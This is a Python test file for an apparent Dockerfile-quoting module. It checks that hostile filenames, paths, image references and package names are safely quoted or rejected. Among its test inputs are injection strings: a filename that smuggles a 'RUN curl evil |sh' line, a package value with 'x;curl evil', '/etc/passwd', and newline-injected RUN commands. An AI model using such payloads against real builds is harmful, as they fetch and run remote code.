"""Hostile text: refused, or carried through unchanged."""

from __future__ import annotations

import json
import re
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nb2image.errors import PlanError
from nb2image.image import quote
from tests.unit.image import dockerfile

HOSTILE = st.text(max_size=40) | st.text(
    alphabet="\\\"$'` #!\n\r\t{}=;&|<>PATH-é\u2028", max_size=25
)


def has_control(text: str) -> bool:
    return any(unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") for c in text)


@given(HOSTILE)
def test_a_word_is_refused_or_comes_back_unchanged(value: str) -> None:
    """An engine reads back exactly what was quoted; control characters are refused."""
    if has_control(value):
        with pytest.raises(PlanError):
            quote.word(value)
    else:
        quoted = quote.word(value)
        assert dockerfile.split_words(f"A={quoted} B") == [f"A={quoted}", "B"]
        assert dockerfile.word(quoted, {"PATH": "expanded", "P": "expanded"}) == value


@given(st.lists(HOSTILE, min_size=1))
def test_exec_form_is_json_on_one_line(arguments: list[str]) -> None:
    """A command is a JSON array whatever its arguments hold; else a shell would read it."""
    text = quote.exec_form(arguments)
    assert json.loads(text) == arguments
    assert "\n" not in text
    assert not text.endswith("\\")


@given(HOSTILE)
def test_a_slug_fits_a_tag(name: str) -> None:
    """Any name gives a slug that is a repository name."""
    assert re.fullmatch(r"[a-z0-9][a-z0-9-]{0,59}", quote.slug(name))
    assert quote.tag(quote.slug(name))


@given(HOSTILE)
def test_a_path_stays_inside_the_project(path: str) -> None:
    """What project_path lets through has no empty, dot or control part."""
    try:
        checked = quote.project_path(path)
    except PlanError:
        return
    assert not has_control(checked)
    assert not {"", ".", ".."} & set(checked.split("/"))


@pytest.mark.parametrize(
    "path",
    ["a b.csv", "-rf", "#x", "!x", "*?[a].csv", "$HOME/x", 'x"; RUN curl evil |sh.ipynb', "é/日本"],
)
def test_odd_names_are_allowed(path: str) -> None:
    """Names that only a careless tool stumbles over are carried along."""
    assert quote.project_path(path) == path


@pytest.mark.parametrize(
    "path",
    [
        "",
        "/etc/passwd",
        "../x",
        "a/../../x",
        "a//b",
        "a/./b",
        "a\nb",
        "a\0b",
        "\udcff",
        "a\\b",
        "x" * 256,
    ],
)
def test_paths_that_cannot_be_carried_are_refused(path: str) -> None:
    """Outside the project, control characters, not Unicode, too long."""
    with pytest.raises(PlanError):
        quote.project_path(path)


@pytest.mark.parametrize(
    "text",
    [
        "python:3.11-slim-bookworm",
        "localhost:5000/a/b_c/d--e:1.0_x",
        "ghcr.io/me/image",
        "python@sha256:" + "0" * 64,
        "python:3.11@sha256:" + "0" * 64,
    ],
)
def test_image_references_are_accepted(text: str) -> None:
    """With host, port, tag and digest."""
    assert quote.reference(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Python",
        "python:",
        "a b",
        "a\nRUN x",
        "a:1 AS x",
        "$IMAGE",
        "-x",
        "a:-1",
        "a@sha256:12",
        "https://x/y",
        "a" * 256,
        "python:3.11\n",
    ],
)
def test_what_is_no_image_reference_is_refused(text: str) -> None:
    """Nothing that would end the word, expand, or be refused by the engine later."""
    with pytest.raises(PlanError):
        quote.reference(text)


def test_a_tag_has_no_digest() -> None:
    """A build cannot choose its digest."""
    with pytest.raises(PlanError):
        quote.tag("a@sha256:" + "0" * 64)


@pytest.mark.parametrize(
    ("check", "good", "bad"),
    [
        (quote.env_name, "MY_VAR1", "1X"),
        (quote.env_name, "_x", "A=B"),
        (quote.env_name, "x", "A\n"),
        (quote.label_name, "io.nb2image.plan", 'a"b'),
        (quote.apt_package, "libstdc++6", "-y"),
        (quote.apt_package, "libgl1:amd64", "a b"),
        (quote.apt_package, "graphviz=2.42.2-7+b3", "x;curl evil"),
        (quote.python_version, "3.11", "3.11.4"),
        (quote.script_name, "train.py", "../train.py"),
        (quote.script_name, "main_1.py", "train.py\n"),
    ],
)
def test_names_are_matched_whole(check: object, good: str, bad: str) -> None:
    """Each kind of name lets its own alphabet through and nothing else."""
    assert callable(check)
    assert check(good) == good
    with pytest.raises(PlanError):
        check(bad)


@given(HOSTILE)
def test_markdown_code_cannot_be_left(text: str) -> None:
    """The fence is longer than any run of backticks inside."""
    span = quote.markdown_code(text)
    fence = re.match(r"`+", span)
    assert fence
    inner = span[len(fence[0]) : -len(fence[0])]
    assert fence[0] not in inner
